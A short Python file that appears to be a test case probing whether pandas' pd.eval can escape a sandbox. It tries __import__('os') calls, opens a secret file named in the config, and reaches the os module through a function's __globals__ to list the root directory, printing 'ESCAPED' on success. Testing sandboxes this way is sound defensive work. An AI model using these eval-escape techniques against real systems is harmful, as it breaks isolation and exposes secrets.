# expect: done
# idea: have pd.eval look names up in frames and builtins that are not ours
import pandas as pd


class Space:
    def __init__(self, inner):
        self.inner = inner

    def __getitem__(self, name):
        print("asked for", name)
        return self.inner[name]


def tick(ctx):
    wanted = ("__import__('os').listdir('/')", "open('" + ctx.config["secret_file"] + "')", "sys.modules", "os.listdir('/')", "Series.__init__", "pd")
    for text in wanted:
        for level in range(4):
            try:
                print("answered", text, level, str(pd.eval(text, engine="python", parser="python", level=level))[:80])
            except Exception as error:
                print("refused:", type(error).__name__, str(error)[:60])
    try:
        print(pd.eval("held.__globals__", local_dict={"held": tick}, resolvers=[{"held": pd.read_csv}], engine="python")["os"].listdir("/"))
        print("ESCAPED: listed the root")
    except Exception as error:
        print("refused:", type(error).__name__, error)
